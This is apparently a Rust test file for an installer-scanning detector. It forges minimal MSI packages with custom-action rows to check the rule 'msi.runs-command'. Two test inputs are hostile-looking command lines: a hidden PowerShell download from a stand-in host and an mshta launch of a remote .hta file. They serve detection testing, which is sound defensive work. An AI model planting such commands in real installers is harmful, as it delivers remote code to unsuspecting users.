use crate::forge::{Case, Example, case, fired, ole};

/// The name of a table's stream: two letters of 64 in one character of a row that no writing uses.
fn stream(table: &str) -> String {
    const LETTERS: &str = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._";
    let codes: Vec<u32> = table.chars().map(|c| LETTERS.find(c).unwrap() as u32).collect();
    let mut out = String::from("/\u{4840}");
    for pair in codes.chunks(2) {
        let code = if pair.len() == 2 { 0x3800 + pair[0] + (pair[1] << 6) } else { 0x4800 + pair[0] };
        out.push(char::from_u32(code).unwrap());
    }
    out
}

/// A package with one action of this kind.
fn action(kind: u16, target: &str) -> Case {
    let texts = ["CustomAction", "Say", "Folder", target];
    let mut pool = vec![0xE4, 4, 0, 0];
    for text in texts {
        pool.extend((text.len() as u16).to_le_bytes());
        pool.extend([1, 0]);
    }
    let mut row = vec![2, 0];
    row.extend((kind ^ 0x8000).to_le_bytes());
    row.extend([3, 0, 4, 0]);
    let names = ["_StringPool", "_StringData", "CustomAction"].map(stream);
    let data = texts.concat();
    let streams: [(&str, &[u8]); 3] = [(&names[0], &pool), (&names[1], data.as_bytes()), (&names[2], &row)];
    case("setup.msi", ole::with_class(Some(0x000C1084_0000_0000_C000_000000000046), &streams))
}

pub const EXAMPLES: &[Example] = &[Example {
    rule: "msi.runs-command",
    fires: || action(34, "powershell.exe -w hidden Invoke-WebRequest https://x.invalid/a -OutFile a"),
    silent: || action(34, "cmd.exe /c \"[INSTALLDIR]register.bat\""),
}];

#[test]
fn a_command_line_that_a_property_holds_is_read_too() {
    let report = action(51, "\"mshta.exe\" \"https://x.invalid/a.hta\"").examine();
    assert!(fired(&report).contains(&"msi.runs-command"), "{:?}", fired(&report));
}
